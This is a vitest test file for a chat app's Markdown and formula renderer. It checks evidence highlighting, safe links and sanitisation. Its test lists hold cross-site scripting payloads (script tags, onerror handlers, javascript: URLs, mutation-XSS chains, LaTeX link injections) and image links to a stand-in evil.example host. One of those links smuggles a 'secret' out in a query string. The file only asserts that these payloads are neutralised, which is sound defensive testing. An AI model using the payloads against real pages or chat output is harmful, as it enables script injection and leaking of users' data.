import { expect, test, vi } from "vitest";
import type { EvidenceItem } from "../../src/api/schema";
import { mathReady } from "../../src/chat/formulas";
import { blocksOf, nodesOf } from "../../src/chat/markdown";

function html(source: string, evidence: EvidenceItem[] = []): string {
  const box = document.createElement("div");
  for (const block of blocksOf(source, evidence)) {
    box.append(
      nodesOf(block, (index) => {
        const mark = document.createElement("mark");
        mark.id = String(index);
        return mark;
      }),
    );
  }
  return box.innerHTML.trim();
}

function item(source: string, text: string, from = 0): EvidenceItem {
  const start = source.indexOf(text, from);
  const place = { source: null, drawing: null, page: null, box: null, places: [] };
  return {
    text,
    start,
    end: start + text.length,
    status: "found",
    ...place,
    computed_by: null,
    read: null,
    says: null,
    from: null,
  };
}

test("Markdown becomes elements", () => {
  expect(html("**Ø38 H12** and `M8`")).toBe("<p><strong>Ø38 H12</strong> and <code>M8</code></p>");
  const table = html("| a | b |\n|---|--:|\n| 1 | 2 |");
  expect(table).toContain('<td class="align-right">2</td>');
  expect(table).not.toContain("style");
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "[x](javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "<a href='javascript:alert(1)'>x</a>",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[x](JaVaScRiPt:alert(1))",
  "<style>*{display:none}</style>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  "```html\n<script>alert(1)</script>\n```",
  '[x](https://a.example "\\" onmouseover=alert(1)")',
])("nothing in %s can run", (source) => {
  const box = document.createElement("div");
  box.innerHTML = html(source);
  expect(box.querySelector("script, style, iframe, svg, math, object, form")).toBeNull();
  for (const element of box.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$/);
      expect(value).not.toMatch(/^\s*(javascript|data):/i);
    }
  }
});

test.each([
  "![secret](https://evil.example/?q=secret)",
  "![a](//evil.example/a.png)",
  "![a](http://evil.example/a.png)",
  "![a](/iiif/../api/drawings)".replace("..", "%2e%2e@"),
  "![a][r]\n\n[r]: https://evil.example/a.png",
])("%s loads nothing", (source) => {
  const box = document.createElement("div");
  box.innerHTML = html(source);
  expect(box.querySelector("img")).toBeNull();
});

test("images from this server are shown", () => {
  const box = document.createElement("div");
  box.innerHTML = html("![view](/iiif/ab12.1/0,0,100,100/!200,200/0/default.jpg)");
  expect(box.querySelector("img")?.getAttribute("alt")).toBe("view");
});

test("links open in a new tab without a referrer", () => {
  const box = document.createElement("div");
  box.innerHTML = html("[norm](https://www.iso.org/)");
  const link = box.querySelector("a")!;
  expect(link.target).toBe("_blank");
  expect(link.rel).toContain("noopener");
  expect(link.rel).toContain("noreferrer");
});

test("values with evidence are marked", () => {
  const source = "The bore is **Ø38 H12**, see 12.";
  const evidence = [item(source, "Ø38 H12"), item(source, "12", source.indexOf("see"))];
  expect(html(source, evidence)).toBe(
    '<p>The bore is <strong><mark id="0">Ø38 H12</mark></strong>, see <mark id="1">12</mark>.</p>',
  );
});

test("a mark may run through several elements, tables and code", () => {
  const source = "**38** H7\n\n| a |\n|---|\n| `M8x1` |";
  const evidence = [{ ...item(source, "38** H7"), start: 2 }, item(source, "M8x1")];
  const result = html(source, evidence);
  expect(result).toContain('<strong><mark id="0">38</mark></strong><mark id="0"> H7</mark>');
  expect(result).toContain('<code><mark id="1">M8x1</mark></code>');
});

test("marks keep lists and links as they are", () => {
  const list = "1. one\n2. two";
  expect(html(list, [item(list, "2")])).toContain("<li>two</li>");
  const link = "[a 5](https://a.example/5)";
  const evidence = [item(link, "5"), item(link, "5", link.indexOf("/5"))];
  expect(html(link, evidence)).toContain('href="https://a.example/5"');
  expect(html(link, evidence)).not.toContain("mark");
});

test("offsets outside the text, overlaps and forged marks do no harm", () => {
  const source = "a 5 b";
  const beyond = { ...item(source, "5"), start: 3, end: 99 };
  const twice = [item(source, "5"), item(source, "5"), beyond];
  expect(html(source, twice)).toBe('<p>a <mark id="0">5</mark> b</p>');
  expect(html("x\uFDD0\uFDD2\uFDD2\uFDD2y\uFDD1")).not.toContain("mark");
});

test("text grows block by block: finished blocks keep their HTML", () => {
  const before = blocksOf("# Title\n\nFirst.\n\nSec");
  const after = blocksOf("# Title\n\nFirst.\n\nSecond and\n\n- more");
  expect(after.slice(0, 2)).toEqual(before.slice(0, 2));
  expect(after.length).toBe(4);
});

test("formulas become MathML once the converter is loaded", async () => {
  const source = "Area $A = \\frac{\\pi d^2}{4}$, \\(x_1\\) and $$\\sqrt{2}$$ for $5 or $6.";
  expect(html(source)).toContain('<span class="formula inline">A = \\frac');
  await vi.waitFor(() => expect(mathReady.value).toBe(true));
  const box = document.createElement("div");
  box.innerHTML = html(source);
  expect(box.querySelectorAll("math")).toHaveLength(3);
  expect(box.querySelector("mfrac")).not.toBeNull();
  expect(box.textContent).toContain("for $5 or $6.");
  expect(box.querySelector("[style], annotation")).toBeNull();
});

test.each([
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{https://evil.example}$",
  "$\\includegraphics{https://evil.example/a.png}$",
  "$<img src=x onerror=alert(1)>$",
  "$\\undefined$",
])("nothing in the formula %s can run or load", async (source) => {
  await vi.waitFor(() => expect(mathReady.value).toBe(true));
  const box = document.createElement("div");
  box.innerHTML = html(source);
  expect(box.querySelector("a, img, script, [href], [src]")).toBeNull();
});
